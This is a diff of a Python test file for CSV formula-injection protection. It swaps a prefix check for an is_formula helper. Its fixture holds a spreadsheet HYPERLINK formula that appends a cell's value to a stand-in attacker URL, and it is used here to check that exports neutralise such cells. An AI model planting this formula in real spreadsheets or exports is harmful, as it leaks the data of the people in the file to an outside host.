@@ -8,7 +8,7 @@ from pathlib import Path
 
 import pytest
 
-from opspor.csv_safe import FORMULA_START
+from opspor.csv_safe import is_formula
 from tests.lists.lists_kit import AS_OF, CPR, NAMES, write_drop
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&C2,"Klik her")'
@@ -57,7 +57,7 @@ def cells(out: Path) -> list[tuple[str, str]]:
 def assert_no_formula_cells(out: Path) -> None:
     written = cells(out)
     assert written, "no CSV was written"
-    starting = [(name, value) for name, value in written if value.startswith(FORMULA_START)]
+    starting = [(name, value) for name, value in written if is_formula(value)]
     assert not starting, f"cells that Excel would run as formulas: {starting}"
 
 
